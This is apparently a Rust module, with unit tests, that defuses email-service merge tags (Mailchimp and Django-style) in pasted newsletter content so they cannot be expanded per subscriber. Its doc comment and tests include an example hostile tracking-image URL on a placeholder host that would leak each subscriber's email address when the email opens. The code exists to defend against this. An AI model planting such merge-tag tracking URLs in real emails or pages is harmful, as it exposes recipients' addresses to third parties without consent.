//! Email services' merge tags, kept out of post content.
//!
//! An email service (ESP) replaces its placeholders per subscriber when it
//! sends: Mailchimp's `*|EMAIL|*`, Buttondown's `{{ subscriber.email }}` and
//! `{% if … %}` (Django-style templates, so `{# … #}` comments too). Text
//! pasted into a post from a press release or another newsletter may hold
//! them, and so may a hostile paste: an image at
//! `https://tracker.example/p.gif?u=*|URL:EMAIL|*` would send every
//! subscriber's address to a third party when the email is opened.
//!
//! So every piece of text or URL that comes from a post (body, alt text,
//! titles, teasers, the preheader) and from a digest's intro and subject is
//! passed through here, whatever ESP the newsletter is set to: a post may be
//! pasted into any service later, by "Copy for email" or by hand, so both
//! syntaxes are neutralized always. The footer's own placeholders
//! (`footer.rs`) are never passed through here, so they stay live.
//!
//! Neutralizing changes nothing a subscriber can see:
//!
//! * in text (which becomes HTML text, attribute values and the plain-text
//!   part), a ZERO WIDTH JOINER (U+200D) goes between the two characters of
//!   each delimiter (`*|`, `|*`, `{{`, `}}`, `{%`, `%}`, `{#`, `#}`): it is
//!   invisible, and the delimiter no longer exists, neither in the HTML
//!   source nor once its entities are decoded;
//! * in a URL, which an invisible character would change, `|`, `{` and `}`
//!   are percent-encoded (`%7C`, `%7B`, `%7D`): the same address for any
//!   server, and no delimiter is left. URLs without a delimiter are left
//!   byte for byte as they were.

/// Put between the two characters of a delimiter. Invisible.
const JOINER: char = '\u{200D}';

/// Whether `first` then `second` open or close a merge tag of a service.
fn is_delimiter(first: char, second: char) -> bool {
    matches!(
        (first, second),
        ('*', '|') | ('|', '*') | ('{', '{' | '%' | '#') | ('}' | '%' | '#', '}')
    )
}

/// Whether `text` holds the start or end of any merge tag.
pub(crate) fn has_delimiter(text: &str) -> bool {
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if chars.peek().is_some_and(|&next| is_delimiter(c, next)) {
            return true;
        }
    }
    false
}

/// `text` with every delimiter broken by an invisible joiner. Works as well
/// on HTML-escaped text: none of the delimiter characters is ever escaped.
pub(crate) fn neutralize_text(text: &str) -> String {
    if !has_delimiter(text) {
        return text.to_string();
    }
    let mut out = String::with_capacity(text.len() + 8);
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        out.push(c);
        if chars.peek().is_some_and(|&next| is_delimiter(c, next)) {
            out.push(JOINER);
        }
    }
    out
}

/// `url` with `|`, `{` and `}` percent-encoded when it holds a delimiter;
/// unchanged otherwise.
pub(crate) fn neutralize_url(url: &str) -> String {
    if !has_delimiter(url) {
        return url.to_string();
    }
    let mut out = String::with_capacity(url.len() + 8);
    for c in url.chars() {
        match c {
            '|' => out.push_str("%7C"),
            '{' => out.push_str("%7B"),
            '}' => out.push_str("%7D"),
            _ => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_delimiter_of_both_services_is_broken() {
        for tag in [
            "*|EMAIL|*",
            "*|URL:EMAIL|*",
            "{{ subscriber.email }}",
            "{{subscriber.email}}",
            "{% if x %}y{% endif %}",
            "{# note #}",
            "{{{ triple }}}",
        ] {
            let out = neutralize_text(tag);
            assert!(!has_delimiter(&out), "{tag} → {out:?}");
            assert_eq!(out.replace(JOINER, ""), tag, "reads the same");
            let url = neutralize_url(&format!("https://t.example/p.gif?u={tag}"));
            assert!(!has_delimiter(&url), "{url}");
        }
    }

    #[test]
    fn text_without_tags_is_unchanged() {
        for text in [
            "a | b * c { d } 100%",
            "x*y|z",
            "{ {",
            "https://a.org/{x}|y",
        ] {
            assert_eq!(neutralize_text(text), text);
            assert_eq!(neutralize_url(text), text);
        }
    }

    #[test]
    fn urls_are_percent_encoded() {
        assert_eq!(
            neutralize_url("https://t.example/p.gif?u=*|URL:EMAIL|*"),
            "https://t.example/p.gif?u=*%7CURL:EMAIL%7C*"
        );
        assert_eq!(
            neutralize_url("https://t.example/?e={{email}}"),
            "https://t.example/?e=%7B%7Bemail%7D%7D"
        );
    }
}
